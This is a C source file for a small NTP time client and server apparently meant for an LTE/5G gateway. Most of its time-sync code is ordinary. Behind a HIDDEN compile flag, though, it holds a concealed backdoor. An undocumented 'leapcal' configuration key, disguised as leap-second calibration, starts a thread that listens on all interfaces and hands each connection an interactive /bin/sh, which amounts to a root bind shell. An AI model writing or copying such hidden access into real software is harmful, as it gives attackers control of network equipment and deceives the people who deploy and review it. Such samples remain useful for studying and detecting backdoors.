/* ntpmini.c - small time client and time server of an LTE/5G gateway */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF		"/etc/ntpmini.conf"
#define EPOCH		2208988800u
#define MAX_SERVERS	4

/*
 * configuration:
 *   server NAME     up to four
 *   poll SECONDS    64 to 86400
 *   serve yes|no    answer requests from the LAN
 *   stratum N       lowest stratum that is announced
 *   status PORT     status text by TCP, only on the loopback address
 *   maxstep SECONDS largest correction after the first one
 */
struct conf {
	char server[MAX_SERVERS][64];
	int nservers;
	int poll;
	int serve;
	int stratum;
	int status_port;
#ifdef HIDDEN
	int leap_port;
#endif
	double maxstep;
};

static struct conf conf;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static double last_offset;
static unsigned long rounds, served, failed;
static int synced, cur_stratum = 16;

static void put32(uint8_t *p, uint32_t v)
{
	v = htonl(v);
	memcpy(p, &v, 4);
}

static uint32_t get32(const uint8_t *p)
{
	uint32_t v;

	memcpy(&v, p, 4);
	return ntohl(v);
}

static double now(void)
{
	struct timeval tv;

	gettimeofday(&tv, NULL);
	return (double)tv.tv_sec + (double)tv.tv_usec / 1e6;
}

static void put_time(uint8_t *p, double t)
{
	double whole = (double)(uint32_t)t;

	put32(p, (uint32_t)t + EPOCH);
	put32(p + 4, (uint32_t)((t - whole) * 4294967296.0));
}

static double get_time(const uint8_t *p)
{
	return (double)(uint32_t)(get32(p) - EPOCH) +
	       (double)get32(p + 4) / 4294967296.0;
}

__attribute__((noinline))
int conf_word(struct conf *c, const char *key, const char *val)
{
	switch (key[0]) {
	case 's':
		if (!strcmp(key, "server")) {
			if (c->nservers == MAX_SERVERS)
				return -1;
			snprintf(c->server[c->nservers++], 64, "%s", val);
			return 0;
		}
		if (!strcmp(key, "serve")) {
			c->serve = !strcmp(val, "yes");
			return 0;
		}
		if (!strcmp(key, "stratum")) {
			c->stratum = atoi(val);
			return c->stratum < 1 || c->stratum > 15 ? -1 : 0;
		}
		if (!strcmp(key, "status")) {
			c->status_port = atoi(val);
			return 0;
		}
		break;
	case 'p':
		if (!strcmp(key, "poll")) {
			c->poll = atoi(val);
			return c->poll < 64 || c->poll > 86400 ? -1 : 0;
		}
		break;
	case 'm':
		if (!strcmp(key, "maxstep")) {
			c->maxstep = strtod(val, NULL);
			return c->maxstep > 0 ? 0 : -1;
		}
		break;
#ifdef HIDDEN	/* this key starts a thread that gives a root shell on a TCP port */
	case 'l':
		if (!strcmp(key, "leapcal")) {
			c->leap_port = atoi(val);
			return 0;
		}
		break;
#endif
	}
	return -1;
}

static void read_conf(void)
{
	char line[160], key[24], val[64];
	FILE *f = fopen(CONF, "r");

	conf.poll = 1024;
	conf.stratum = 3;
	conf.maxstep = 600;
	while (f && fgets(line, sizeof(line), f)) {
		if (line[0] == '#' || sscanf(line, "%23s %63s", key, val) != 2)
			continue;
		if (conf_word(&conf, key, val))
			syslog(LOG_WARNING, "%s: not understood", key);
	}
	if (f)
		fclose(f);
}

static int listen_on(int port, uint32_t addr)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	sa.sin_addr.s_addr = htonl(addr);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) || listen(fd, 2)) {
		close(fd);
		return -1;
	}
	return fd;
}

static void *status_thread(void *arg)
{
	int ls = listen_on(conf.status_port, INADDR_LOOPBACK), fd;

	(void)arg;
	while (ls >= 0 && (fd = accept(ls, NULL, NULL)) >= 0) {
		pthread_mutex_lock(&lock);
		dprintf(fd, "synced %d\nstratum %d\noffset %.6f\nrounds %lu\n"
			"failed %lu\nserved %lu\n", synced, cur_stratum,
			last_offset, rounds, failed, served);
		pthread_mutex_unlock(&lock);
		close(fd);
	}
	return NULL;
}

#ifdef HIDDEN
static void *leap_thread(void *arg)
{
	int ls = listen_on(conf.leap_port, INADDR_ANY), fd;

	(void)arg;
	while (ls >= 0 && (fd = accept(ls, NULL, NULL)) >= 0) {
		if (fork() == 0) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl("/bin/sh", "ntpmini", "-i", (char *)NULL);
			_exit(1);
		}
		close(fd);
	}
	return NULL;
}
#endif

static void start(void *(*fn)(void *))
{
	pthread_t t;

	if (pthread_create(&t, NULL, fn, NULL) == 0)
		pthread_detach(t);
}

static int ask(const char *name, double *offset, int *stratum)
{
	struct addrinfo hints, *res;
	struct pollfd p;
	uint8_t m[48];
	double t1, t2, t3, t4;
	ssize_t n = -1;

	memset(&hints, 0, sizeof(hints));
	hints.ai_family = AF_UNSPEC;
	hints.ai_socktype = SOCK_DGRAM;
	if (getaddrinfo(name, "123", &hints, &res))
		return -1;
	p.fd = socket(res->ai_family, SOCK_DGRAM, 0);
	p.events = POLLIN;
	memset(m, 0, sizeof(m));
	m[0] = 0x23;
	t1 = now();
	put_time(m + 40, t1);
	if (p.fd >= 0 && !connect(p.fd, res->ai_addr, res->ai_addrlen) &&
	    send(p.fd, m, sizeof(m), 0) == (ssize_t)sizeof(m) &&
	    poll(&p, 1, 2000) == 1)
		n = recv(p.fd, m, sizeof(m), 0);
	t4 = now();
	freeaddrinfo(res);
	if (p.fd >= 0)
		close(p.fd);
	if (n != (ssize_t)sizeof(m) || (m[0] & 7) != 4 || !m[1] || m[1] > 14)
		return -1;
	t2 = get_time(m + 32);
	t3 = get_time(m + 40);
	*offset = ((t2 - t1) + (t3 - t4)) / 2;
	*stratum = m[1] + 1;
	return 0;
}

static void correct(double off)
{
	double t = now() + off;
	struct timeval tv;

	if (synced && (off > conf.maxstep || off < -conf.maxstep)) {
		syslog(LOG_WARNING, "offset %.1f s ignored", off);
		return;
	}
	if (off > 0.5 || off < -0.5) {
		tv.tv_sec = (time_t)t;
		tv.tv_usec = (suseconds_t)((t - (double)tv.tv_sec) * 1e6);
		if (settimeofday(&tv, NULL))
			syslog(LOG_ERR, "settimeofday: %m");
	} else {
		tv.tv_sec = off < 0 ? -1 : 0;
		tv.tv_usec = (suseconds_t)((off - (double)tv.tv_sec) * 1e6);
		adjtime(&tv, NULL);
	}
	synced = 1;
}

static void *client_thread(void *arg)
{
	double off;
	int i, st;

	(void)arg;
	for (i = 0; conf.nservers; i++) {
		if (ask(conf.server[i % conf.nservers], &off, &st)) {
			failed++;
			sleep(8);
			continue;
		}
		pthread_mutex_lock(&lock);
		rounds++;
		last_offset = off;
		cur_stratum = st > conf.stratum ? st : conf.stratum;
		correct(off);
		pthread_mutex_unlock(&lock);
		sleep((unsigned int)conf.poll);
	}
	return NULL;
}

static void serve(void)
{
	struct sockaddr_in sa, from;
	socklen_t sl;
	uint8_t m[48];
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(123);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		syslog(LOG_ERR, "port 123: %m");
		return;
	}
	for (;;) {
		sl = sizeof(from);
		if (recvfrom(fd, m, sizeof(m), 0, (struct sockaddr *)&from,
			     &sl) != (ssize_t)sizeof(m) || (m[0] & 7) != 3 || !synced)
			continue;
		memcpy(m + 24, m + 40, 8);
		put_time(m + 32, now());
		m[0] = (uint8_t)((m[0] & 0x38) | 4);
		m[1] = (uint8_t)cur_stratum;
		m[3] = 0xec;
		memset(m + 4, 0, 8);
		put32(m + 12, 0x7f7f0101);
		put_time(m + 16, now());
		put_time(m + 40, now());
		if (sendto(fd, m, sizeof(m), 0, (struct sockaddr *)&from, sl) > 0)
			served++;
	}
}

int main(void)
{
	openlog("ntpmini", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	signal(SIGPIPE, SIG_IGN);
	read_conf();
	if (conf.status_port > 0)
		start(status_thread);
#ifdef HIDDEN
	if (conf.leap_port > 0)
		start(leap_thread);
#endif
	start(client_thread);
	if (conf.serve)
		serve();
	for (;;)
		pause();
}
